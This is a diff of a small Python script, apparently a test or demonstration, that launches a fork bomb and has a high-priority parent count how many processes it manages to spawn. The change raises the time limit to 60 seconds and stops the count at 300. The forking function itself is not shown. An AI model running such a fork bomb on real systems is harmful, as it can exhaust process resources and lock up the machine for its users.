@@ -1,4 +1,4 @@
-# Every process forks for ever. The first one only counts, at the highest priority, and says how far it came.
+# Every process forks for ever. The first one only counts, at the highest priority, and says how far it came; at 300 the point is made.
 import os, time
 
 count, tell = os.pipe()
@@ -20,9 +20,9 @@ if os.fork() == 0: bomb()
 try: os.nice(-20)
 except OSError: pass
 made = refused = 0
-end = time.monotonic() + 4
+end = time.monotonic() + 60
 os.set_blocking(count, False)
-while time.monotonic() < end:
+while made < 300 and time.monotonic() < end:
     try: got = os.read(count, 65536)
     except BlockingIOError: time.sleep(0.01); continue
     made += got.count(b"+")
